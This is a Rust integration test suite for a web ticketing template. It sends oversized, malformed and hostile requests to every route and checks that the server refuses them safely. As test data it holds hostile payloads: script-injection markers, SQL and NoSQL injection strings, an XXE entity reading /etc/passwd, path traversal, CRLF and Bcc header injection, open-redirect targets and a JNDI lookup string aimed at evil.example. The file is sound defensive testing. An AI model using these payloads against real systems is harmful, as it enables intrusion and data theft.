//! Oversized, malformed and hostile requests to every route of the template (S14, S16, S22, S25). A new route falls under
//! this by itself. Whatever comes is answered by a page in the visitor's language that says what is wrong, or by
//! API Gateway; never by a 5xx, never by a redirect off the site, and nothing of it comes back as markup.

use std::time::Duration;

use guichet_identity::SessionCookie;
use guichet_identity::cookies;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::support::TestStack;

/// A request as bytes: no client of ours puts it right on the way.
struct Raw {
    method: String,
    target: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

/// What came back.
struct Answer {
    status: u16,
    head: String,
    body: Vec<u8>,
}

/// A request of somebody who speaks German, from a page of ours.
fn from_our_page(method: &str, target: &str, base: &str, cookie: &str) -> Raw {
    let headers = [
        ("Accept", "text/html"),
        ("Accept-Language", "de"),
        ("Origin", base),
        ("Cookie", cookie),
        ("Content-Type", "application/x-www-form-urlencoded"),
    ];
    Raw {
        method: method.to_owned(),
        target: target.to_owned(),
        headers: headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
        body: Vec::new(),
    }
}

impl Raw {
    fn header(mut self, name: &str, value: &str) -> Self {
        self.headers.retain(|(known, _)| !known.eq_ignore_ascii_case(name));
        self.headers.push((name.to_owned(), value.to_owned()));
        self
    }

    fn body(mut self, body: impl Into<Vec<u8>>) -> Self {
        self.body = body.into();
        self
    }

    /// `None` where the server hung up without a word, as it may on what is no HTTP.
    async fn send(&self, address: &str) -> Option<Answer> {
        let mut stream = TcpStream::connect(address).await.expect("the stack listens");
        let mut bytes = format!("{} {} HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n", self.method, self.target);
        for (name, value) in &self.headers {
            bytes.extend([name.as_str(), ": ", value, "\r\n"]);
        }
        bytes.extend(["Content-Length: ", &self.body.len().to_string(), "\r\n\r\n"]);
        let mut bytes = bytes.into_bytes();
        bytes.extend_from_slice(&self.body);
        // Whoever is refused early may find the door closed in the middle of the sentence.
        let _ = stream.write_all(&bytes).await;
        let mut answer = Vec::new();
        let read = tokio::time::timeout(Duration::from_secs(30), stream.read_to_end(&mut answer)).await;
        assert!(read.is_ok(), "{} {}: no answer in 30 seconds", self.method, self.target);
        let end = answer.windows(4).position(|four| four == b"\r\n\r\n")?;
        let head = String::from_utf8_lossy(&answer[..end]).into_owned();
        let status = head.split(' ').nth(1)?.parse().ok()?;
        Some(Answer { status, head, body: answer[end + 4..].to_vec() })
    }
}

impl Answer {
    fn header(&self, name: &str) -> Option<&str> {
        let mut lines = self.head.lines().filter_map(|line| line.split_once(": "));
        lines.find(|(known, _)| known.eq_ignore_ascii_case(name)).map(|(_, value)| value)
    }
}

/// What becomes of a request, beside never a 5xx.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Ends {
    /// However the route likes: what is wrong with it does not matter to it.
    Anyhow,
    /// Refused: a 4xx, or the way to the sign-in page.
    Refused,
}

/// One thing that is wrong with a request, done to a sound one.
struct Wrong {
    what: &'static str,
    ends: Ends,
    make: fn(Raw) -> Raw,
}

const fn wrong(what: &'static str, ends: Ends, make: fn(Raw) -> Raw) -> Wrong {
    Wrong { what, ends, make }
}

fn query(raw: Raw, query: &str) -> Raw {
    let target = format!("{}?{query}", raw.target);
    Raw { target, ..raw }
}

/// A multipart body with a sound head, and this in it.
fn multipart(raw: Raw, body: &[u8]) -> Raw {
    raw.header("Content-Type", "multipart/form-data; boundary=b").body(body)
}

const MARK: &str = "\"'><script>mark()</script>";
const MARK_ENCODED: &str = "%22%27%3E%3Cscript%3Emark()%3C%2Fscript%3E";

/// For every route, whatever its method.
const ANY: &[Wrong] = &[
    wrong("query of a thousand parameters", Ends::Anyhow, |raw| query(raw, &"a=1&".repeat(1_000))),
    wrong("query of 8 KB in one value", Ends::Anyhow, |raw| query(raw, &format!("q={}", "x".repeat(8_000)))),
    wrong("query that is nested", Ends::Anyhow, |raw| query(raw, &format!("q{}=1", "[a]".repeat(500)))),
    wrong("parameters twice and thrice", Ends::Anyhow, |raw| {
        query(
            raw,
            "view=mine&view=organization&state=open&state=&state=closed&sort=1&sort=-created&lang=de&lang=xx&lang=de",
        )
    }),
    wrong("query with NULs, line breaks and broken UTF-8", Ends::Anyhow, |raw| {
        query(
            raw,
            "q=%00%0d%0aX-Injected:%201&after=%ff%fe&next=%c0%af%c0%af&before=%e2%28%a1&form=%F5&%00=%00&done=%ed%a0%80",
        )
    }),
    wrong("query with markup", Ends::Anyhow, |raw| {
        let names = ["q", "next", "done", "with", "lang", "sort", "stage", "form", "after"];
        let marked: Vec<String> = names.iter().map(|name| format!("{name}={MARK_ENCODED}")).collect();
        query(raw, &marked.join("&"))
    }),
    wrong("query with operators of a data base", Ends::Anyhow, |raw| {
        query(
            raw,
            "q=%27%20OR%201%3D1--&stage[$ne]=x&state={\"$gt\":\"\"}&sort=;drop&after=2026-01-01T00:00:00Z_99999999999999999999",
        )
    }),
    wrong("query with broken percent signs", Ends::Anyhow, |raw| query(raw, "q=%&state=%zz&view=%u0041&%%%")),
    wrong("numbers beyond all bounds", Ends::Anyhow, |raw| {
        query(raw, "after=9999-12-31T23:59:59Z_18446744073709551615&before=-1&page=1e309&sort=--created")
    }),
    wrong("cookies that are no cookies", Ends::Anyhow, |raw| {
        raw.header(
            "Cookie",
            "=; ;;; __Host-session; __Host-session=; lang=\"<x>\"; __Host-visit=\u{e9}\u{1f600}; a=b=c",
        )
    }),
    wrong("a session cookie of many dots", Ends::Refused, |raw| {
        raw.header("Cookie", &format!("__Host-session={}", ".".repeat(1_000)))
    }),
    wrong("a thousand cookies", Ends::Anyhow, |raw| {
        let cookies: Vec<String> = (0..1_000).map(|n| format!("c{n}=1")).collect();
        raw.header("Cookie", &cookies.join("; "))
    }),
    wrong("cookies of 20 KB", Ends::Refused, |raw| raw.header("Cookie", &format!("a={}", "x".repeat(20_000)))),
    wrong("a header of 64 KB", Ends::Refused, |raw| raw.header("X-Long", &"x".repeat(65_000))),
    wrong("languages without end", Ends::Anyhow, |raw| raw.header("Accept-Language", &"de;q=0.1,".repeat(500))),
    wrong("a language that is a path", Ends::Anyhow, |raw| raw.header("Accept-Language", "../../etc/passwd;q=nan")),
    wrong("an Accept that makes no sense", Ends::Anyhow, |raw| raw.header("Accept", "application/json;;;q=,,*/*/*")),
    wrong("headers that claim another method and address", Ends::Anyhow, |raw| {
        raw.header("X-HTTP-Method-Override", "DELETE")
            .header("X-Original-URL", "/admin")
            .header("X-Rewrite-URL", "/admin")
    }),
];

/// For routes that take a form.
const POSTS: &[Wrong] = &[
    wrong("no body", Ends::Refused, |raw| raw),
    wrong("a body of JSON", Ends::Refused, |raw| {
        raw.header("Content-Type", "application/json").body("{\"message\":{\"$ne\":1}}")
    }),
    wrong("XML with an entity", Ends::Refused, |raw| {
        raw.header("Content-Type", "application/xml")
            .body("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>")
    }),
    wrong("a type that is none", Ends::Refused, |raw| {
        raw.header("Content-Type", "\u{1f600}; charset=; ;;").body("a=b")
    }),
    wrong("a body that says it is text", Ends::Refused, |raw| raw.header("Content-Type", "text/plain").body("token=x")),
    wrong("broken UTF-8 in a form", Ends::Refused, |raw| {
        raw.body(b"message=%ff%fe\xff\xfe&subject=%c3%28&token=\xf0\x9f&%00=%00".to_vec())
    }),
    wrong("NULs in a form", Ends::Refused, |raw| {
        raw.body("message=%00%00&subject=a%00b&email=a%00@b.example&token=%00")
    }),
    wrong("the same fields many times", Ends::Refused, |raw| raw.body("token=a&message=x&".repeat(100))),
    wrong("ten thousand fields", Ends::Refused, |raw| raw.body("a=1&".repeat(10_000))),
    wrong("a field of 2 MB", Ends::Refused, |raw| raw.body(format!("message={}", "x".repeat(2_000_000)))),
    wrong("a field's name of 1 MB", Ends::Refused, |raw| raw.body(format!("{}=1", "x".repeat(1_000_000)))),
    wrong("a body over 6 MB", Ends::Refused, |raw| raw.body(vec![b'x'; 6_500_000])),
    wrong("a body over 10 MB", Ends::Refused, |raw| raw.body(vec![b'x'; 10_600_000])),
    wrong("a multipart without boundary", Ends::Refused, |raw| {
        raw.header("Content-Type", "multipart/form-data").body("--\r\n\r\n--")
    }),
    wrong("a multipart that never begins", Ends::Refused, |raw| multipart(raw, b"nothing")),
    wrong("a multipart that ends in a header", Ends::Refused, |raw| {
        multipart(raw, b"--b\r\nContent-Disposition: form-data; name=\"mess")
    }),
    wrong("a multipart that ends in a field", Ends::Refused, |raw| {
        multipart(raw, b"--b\r\nContent-Disposition: form-data; name=\"message\"\r\n\r\nhalf")
    }),
    wrong("parts without names", Ends::Refused, |raw| {
        multipart(raw, b"--b\r\n\r\nx\r\n--b\r\nContent-Disposition: form-data\r\n\r\ny\r\n--b--\r\n")
    }),
    wrong("a file name that is a path, with a NUL", Ends::Refused, |raw| {
        let part = b"--b\r\nContent-Disposition: form-data; name=\"attachments\"; filename=\"../../../etc/\x00passwd\"\r\nContent-Type: a/b/c; ;\r\n\r\nx\r\n--b--\r\n";
        multipart(raw, part)
    }),
    wrong("a thousand files", Ends::Refused, |raw| {
        let part = "--b\r\nContent-Disposition: form-data; name=\"attachments\"; filename=\"a\"\r\n\r\nx\r\n";
        multipart(raw, format!("{}--b--\r\n", part.repeat(1_000)).as_bytes())
    }),
    wrong("a part with a thousand headers", Ends::Refused, |raw| {
        multipart(raw, format!("--b\r\n{}\r\nx\r\n--b--\r\n", "X-A: b\r\n".repeat(1_000)).as_bytes())
    }),
    wrong("a multipart inside a multipart", Ends::Refused, |raw| {
        multipart(raw, b"--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nx\r\n--b--\r\n--b--\r\n")
    }),
    wrong("no origin", Ends::Refused, |raw| raw.header("Origin", "null").body("token=x")),
    wrong("an origin that begins like ours", Ends::Refused, |raw| {
        let origin = format!("{}.evil.example", raw.headers.iter().find(|(n, _)| n == "Origin").unwrap().1);
        raw.header("Origin", &origin).body("token=x")
    }),
];

/// For routes that take a form, from somebody who may post it: the right token is put in front.
const WITH_TOKEN: &[&str] = &[
    "",
    "&message=%00&subject=%00&email=%00&name=%00&code=%00&password=%00",
    "&message=%ff&subject=%ff&email=%ff@%ff&name=%ff&code=%ff&password=%ff&next=%ff",
    "&message=%F0%9F%98%80&subject=%0d%0aBcc:%20x@evil.example&email=a%0d%0aBcc:x@evil.example&name=%0a&once=../../..",
    "&message=%22%27%3E%3Cscript%3Emark()%3C%2Fscript%3E&subject=%22%27%3E%3Cscript%3Emark()%3C%2Fscript%3E&email=%22%27%3E%3Cscript%3Emark()%3C%2Fscript%3E&name=%22%27%3E%3Cscript%3Emark()%3C%2Fscript%3E",
    "&once=x&once=&message=&subject=&email=&name=&code=&password=",
    "&code=99999999999999999999999999999999&email=a@b&password=x",
    "&code=%D9%A1%D9%A2%D9%A3%D9%A4%D9%A5%D9%A6&email=%E2%80%AEmoc.elpmaxe@a",
    "&next=//evil.example&next=https:evil.example&email=x@evil.example&form=../../x",
];

#[tokio::test]
async fn s14_s16_s22_whatever_comes_to_any_route_is_answered_clearly_and_never_by_our_fault() {
    let stack = TestStack::start().await;
    let anna = stack.verified("anna@acme.example", "Anna", |_| ()).await;
    let ticket = stack.ticket(&anna, "Mine", "The first words").await;
    let base = stack.running.url.trim_end_matches('/').to_owned();
    let address = base.strip_prefix("http://").unwrap().to_owned();
    let mut asked = 0;
    let mut mistakes = Vec::new();
    for route in &stack.running.stack.routes {
        let path = if route.path == "$default" { "/no/such/page".to_owned() } else { route.path.clone() };
        let path = path.replace("{number}", &ticket.number.to_string());
        let path = fill(&path, &uuid::Uuid::nil().to_string());
        let method = if route.path == "$default" { "GET" } else { route.method.as_str() };
        for signed_in in [true, false] {
            // A session for each route: some of them end it.
            let (cookie, token) = if signed_in {
                let value = stack.visitor(&anna).await.cookie(cookies::SESSION).unwrap();
                let token = value.parse::<SessionCookie>().unwrap().secret.csrf_token();
                (format!("{}={value}", cookies::SESSION), token)
            } else {
                let guest = stack.browser();
                guest.get("/sign-in").await;
                let value = guest.cookie(cookies::VISIT).unwrap();
                let token = value.parse::<guichet_identity::SessionSecret>().unwrap().csrf_token();
                (format!("{}={value}", cookies::VISIT), token)
            };
            let sound = || from_our_page(method, &path, &base, &cookie);
            let posts = if method == "GET" { &[] } else { POSTS };
            for wrong in ANY.iter().chain(posts) {
                let label = format!("{method} {path} ({}): {}", if signed_in { "in" } else { "out" }, wrong.what);
                let ends = if method == "GET" && wrong.what.starts_with("a session cookie") {
                    Ends::Anyhow
                } else {
                    wrong.ends
                };
                look(&(wrong.make)(sound()), ends, &label, &address, &mut mistakes).await;
                asked += 1;
            }
            // Steps at the door wait 400 ms each (S20), and are counted; one pass will do.
            let bodies = if method == "GET" || path.starts_with("/sign-out") { &[] } else { WITH_TOKEN };
            for body in bodies {
                let label = format!("{method} {path} with token and {body}");
                let raw = sound().body(format!("token={token}{body}"));
                look(&raw, Ends::Anyhow, &label, &address, &mut mistakes).await;
                asked += 1;
            }
        }
    }
    assert!(mistakes.is_empty(), "{} of {asked}:\n{}", mistakes.len(), mistakes.join("\n"));
    assert!(asked > 1_000, "{asked}");
    // Nothing came of it: one ticket, one message, nobody mailed who was made up here.
    assert!(stack.outbox.to("x@evil.example").await.iter().all(|mail| !mail.subject.contains("Bcc")));
    stack.end().await;
}

/// Other variables of a path: an id that leads nowhere.
fn fill(path: &str, id: &str) -> String {
    path.split('/').map(|part| if part.starts_with('{') { id } else { part }).collect::<Vec<_>>().join("/")
}

async fn look(raw: &Raw, ends: Ends, label: &str, address: &str, mistakes: &mut Vec<String>) {
    let Some(answer) = raw.send(address).await else { return };
    let text = String::from_utf8_lossy(&answer.body).into_owned();
    let mut wrong = |what: String| mistakes.push(format!("{label}: {what}"));
    let kind = answer.header("content-type").unwrap_or_default().to_owned();
    let of_gateway = kind == "application/json" && text.starts_with("{\"message\":");
    if answer.status >= 500 {
        wrong(format!("{} {}", answer.status, &text.chars().take(200).collect::<String>()));
    }
    if ends == Ends::Refused && answer.status < 400 && !leads_away(&answer) {
        wrong(format!("{} where a refusal was due", answer.status));
    }
    if let Some(to) = answer.header("location") {
        let presigned = to.contains("X-Amz-Signature=");
        let is_local = to.starts_with('/') && !to.starts_with("//") && !to.starts_with("/\\");
        if !is_local && !presigned {
            wrong(format!("leads to {to}"));
        }
    }
    if answer.header("x-injected").is_some() {
        wrong("a header of the visitor's own".to_owned());
    }
    if kind.starts_with("text/html") {
        if text.contains(MARK) || text.contains("<script>mark()") {
            wrong("markup comes back as markup".to_owned());
        }
        // The visitor reads German, and says so in each request that keeps its languages.
        let languages = raw.headers.iter().find(|(name, _)| name == "Accept-Language").map(|(_, value)| value.as_str());
        if languages == Some("de") && !raw.target.contains("lang=") && !text.contains("lang=\"de\"") {
            wrong(format!("{} in another language", answer.status));
        }
        if answer.header("content-security-policy").is_none() {
            wrong("no content security policy".to_owned());
        }
    } else if answer.status >= 400 && !of_gateway && !kind.contains("json") && !answer.body.is_empty() {
        wrong(format!("{} as {kind}", answer.status));
    }
}

/// To the sign-in page, or to where signing out leads.
fn leads_away(answer: &Answer) -> bool {
    let to = answer.header("location").unwrap_or_default();
    answer.status == 303 && (to.starts_with("/sign-in") || to.starts_with("/signed-out"))
}

#[tokio::test]
async fn s16_s22_other_methods_and_crooked_paths_lead_nowhere() {
    let stack = TestStack::start().await;
    let anna = stack.verified("anna@acme.example", "Anna", |_| ()).await;
    let ticket = stack.ticket(&anna, "Mine", "The first words").await;
    let base = stack.running.url.trim_end_matches('/').to_owned();
    let address = base.strip_prefix("http://").unwrap().to_owned();
    let value = stack.visitor(&anna).await.cookie(cookies::SESSION).unwrap();
    let cookie = format!("{}={value}", cookies::SESSION);
    let routes = &stack.running.stack.routes;
    let mut mistakes = Vec::new();
    for route in routes.iter().filter(|route| route.path != "$default") {
        let path = fill(&route.path.replace("{number}", &ticket.number.to_string()), &uuid::Uuid::nil().to_string());
        for method in ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "get"] {
            if routes.iter().any(|known| known.path == route.path && known.method == method) {
                continue;
            }
            let raw = from_our_page(method, &path, &base, &cookie).body("token=x&message=x");
            let label = format!("{method} {path}");
            look(&raw, Ends::Refused, &label, &address, &mut mistakes).await;
            let answer = raw.send(&address).await;
            // A path whose variables would take in what another route names is that route's; the answer is a refusal there.
            if let Some(answer) = answer.filter(|answer| !(400..500).contains(&answer.status)) {
                mistakes.push(format!("{label}: {}", answer.status));
            }
        }
    }
    for path in [
        "/tickets/../tickets/1/../../_local",
        "/tickets/%2e%2e/%2e%2e/etc/passwd",
        "/tickets/1%2Freplies",
        "/tickets/1/attachments/..%2f..%2f..%2fetc%2fpasswd",
        "/assets/..%2f..%2fCargo.toml",
        "/assets/%00",
        "/assets/%ff%fe",
        "//evil.example/%2f..",
        "/\\evil.example",
        "/tickets/-1",
        "/tickets/0",
        "/tickets/1e3",
        "/tickets/%31%00",
        "/tickets/99999999999999999999999999",
        "/tickets/１",
        "/tickets/1;a=b",
        "/tickets/1/",
        "/TICKETS/1",
        "/tickets/1/updates/x",
        "/tickets/%E2%80%AE1",
        "/tickets.csv/..%2f",
        "/.env",
        "/.git/config",
    ] {
        let raw = from_our_page("GET", path, &base, &cookie);
        let label = format!("GET {path}");
        look(&raw, Ends::Anyhow, &label, &address, &mut mistakes).await;
        let Some(answer) = raw.send(&address).await else { continue };
        let text = String::from_utf8_lossy(&answer.body);
        if text.contains("root:")
            || text.contains("[workspace]")
            || (answer.status == 200 && text.contains("The first words"))
        {
            mistakes.push(format!("{label}: shows what it must not"));
        }
    }
    let long = format!("/tickets/{}", "1/".repeat(3_000));
    look(&from_our_page("GET", &long, &base, &cookie), Ends::Refused, "a path of 6 KB", &address, &mut mistakes).await;
    assert!(mistakes.is_empty(), "{}", mistakes.join("\n"));
    // And nothing happened.
    assert_eq!(stack.entries(ticket.number).await.len(), 1);
    assert_eq!(stack.tickets_up_to(5).await.len(), 1);
    stack.end().await;
}

#[tokio::test]
async fn s22_what_looks_like_a_query_is_words() {
    let stack = TestStack::start().await;
    let anna = stack.verified("anna@acme.example", "Anna", |_| ()).await;
    let eve = stack.verified("eve@evil.example", "Eve", |_| ()).await;
    stack.ticket(&eve, "Nothing but Eve's own", "x").await;
    stack.ticket(&anna, "Secret plans", "x").await;
    let browser = stack.visitor(&eve).await;
    for words in [
        "' OR '1'='1",
        "\" OR begins_with(subject, \"S\")",
        ":value) OR attribute_exists(pk",
        "#subject <> :q",
        "*",
        "%",
        "_",
        "Secret\u{0}",
        "{\"S\":\"Secret\"}",
        "contact#",
        "ticket#2",
        "\\",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
    ] {
        for name in ["q", "stage", "state", "view", "sort", "after", "owner", "form", "place"] {
            let query = url::form_urlencoded::Serializer::new(String::new()).append_pair(name, words).finish();
            for path in ["/tickets", "/tickets.csv", "/tickets/new", "/tickets/suggestions"] {
                let page = browser.get(&format!("{path}?{query}")).await;
                assert!(page.status.as_u16() < 500, "{path}?{query}: {}", page.status);
                let text = page.text();
                assert!(!text.contains("Secret plans"), "{path}?{query} shows another's ticket");
                assert!(!text.contains(">49<"), "{path}?{query}: a template ran");
            }
        }
    }
    stack.end().await;
}
